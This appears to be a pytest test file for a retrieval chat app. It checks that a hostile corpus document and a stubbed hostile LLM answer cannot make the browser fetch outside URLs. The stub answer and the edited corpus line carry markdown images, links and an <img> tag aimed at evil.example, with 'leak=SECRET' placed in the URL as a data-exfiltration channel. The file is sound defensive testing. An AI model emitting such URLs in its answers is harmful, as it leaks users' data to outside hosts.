"""A hostile document and a hostile LLM cannot make the page fetch anything: every request the browser makes goes to
the server itself (issue: markdown images and links to outside URLs, with data in the URL)."""

from __future__ import annotations

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from conftest import ask_in_page, edited_corpus, open_chat
from test_browser import ARGS, CHROMIUM
from test_ui import serving

pytestmark = pytest.mark.slow

DOC_IMAGE = "![p](http://evil.example/x.png?from=doc)"
HOSTILE_LINE = f" The measurement chart is {DOC_IMAGE} in the appendix, see http://evil.example/doc-link."
LLM_ANSWER = ("Metrology, the science of measurement, has only recently been studied in the context of AI risk "
              "assessment [1]. ![x](http://evil.example/leak.png?leak=SECRET) "
              "[more](http://evil.example/c?leak=SECRET) <img src=http://evil.example/raw.png> www.evil.example/w")


class _StubLLM(BaseHTTPRequestHandler):
    """An OpenAI-compatible endpoint: streams a hostile answer for questions about metrology, else a useless one."""

    def log_message(self, *args):  # keep pytest's output clean
        pass

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
        asked = json.dumps(body.get("messages", [])[-1:])
        text = LLM_ANSWER if "leak test" in asked else "No idea."
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        for i in range(0, len(text), 40):
            chunk = {"id": "s", "object": "chat.completion.chunk", "created": 0, "model": "stub",
                     "choices": [{"index": 0, "delta": {"content": text[i:i + 40]}, "finish_reason": None}]}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    """`serve --llm openai` on an index of the page with a hostile image in a card, the LLM a hostile stub."""
    if CHROMIUM is None or not CHROMIUM.exists():
        pytest.skip("needs Debian's chromium (make browser)")
    from consensus_chat.ingest.config import Config
    from consensus_chat.ingest.pipeline import ingest

    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "hostile.txt"
    anchor = "repeatability, and precision."
    edited_corpus(corpus, anchor, anchor + HOSTILE_LINE)
    index = root / "index"
    ingest([corpus], Config.from_env(index_dir=index), quiet=True)
    stub = ThreadingHTTPServer(("127.0.0.1", 0), _StubLLM)
    threading.Thread(target=stub.serve_forever, daemon=True).start()
    saved = dict(os.environ)
    os.environ.update(CONSENSUS_CHAT_LLM_BASE_URL=f"http://127.0.0.1:{stub.server_port}/v1",
                      CONSENSUS_CHAT_LLM_MODEL="stub", CONSENSUS_CHAT_LLM_API_KEY="none")
    try:
        with serving(index, root / "serve.log", "--llm", "openai") as (url, _, _):
            yield url
    finally:
        os.environ.clear()
        os.environ.update(saved)
        stub.shutdown()


@pytest.fixture(scope="module")
def hostile_page(hostile_server, tmp_path_factory):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            user_data_dir=str(tmp_path_factory.mktemp("profile")), executable_path=str(CHROMIUM), headless=True,
            args=ARGS, viewport={"width": 1280, "height": 900}, timeout=60_000)
        context.set_default_timeout(30_000)
        elsewhere: list[str] = []
        # Every request of every page and worker: anything not to the server itself fails the test.
        context.on("request", lambda r: elsewhere.append(r.url) if not r.url.startswith(
            (hostile_server, "data:", "blob:")) else None)
        page = context.new_page()
        page.elsewhere = elsewhere
        open_chat(page, hostile_server)
        try:
            yield page
        finally:
            context.close()


def _ask(page, question: str, done: str) -> str:
    ask_in_page(page, question, done, settle_ms=1500)  # let any image the answer holds start loading
    return page.locator("#chatbot .message-row.bot-row").last.inner_html()


def test_a_hostile_document_makes_no_outside_request(hostile_page):
    html = _ask(hostile_page, "Where is the measurement chart?", "open a source below")
    hostile_page.locator("#chatbot details.source summary").first.click()  # the section text, image and all
    hostile_page.wait_for_timeout(1000)
    text = hostile_page.locator("#chatbot").inner_text()
    assert "evil.example/x.png?from=doc" in text, "the document's image is shown as text"
    assert hostile_page.locator("#chatbot img").count() == 0
    assert hostile_page.locator('#chatbot a[href*="evil"]').count() == 0 and "<img" not in html
    assert hostile_page.elsewhere == [], hostile_page.elsewhere


def test_a_hostile_llm_answer_makes_no_outside_request(hostile_page):
    _ask(hostile_page, "leak test: what is metrology?", "open a source below")
    text = hostile_page.locator("#chatbot .message-row.bot-row").last.inner_text()
    assert "Metrology, the science of measurement" in text
    assert hostile_page.locator("#chatbot img").count() == 0
    assert hostile_page.locator('#chatbot a[href*="evil"]').count() == 0
    assert hostile_page.elsewhere == [], hostile_page.elsewhere
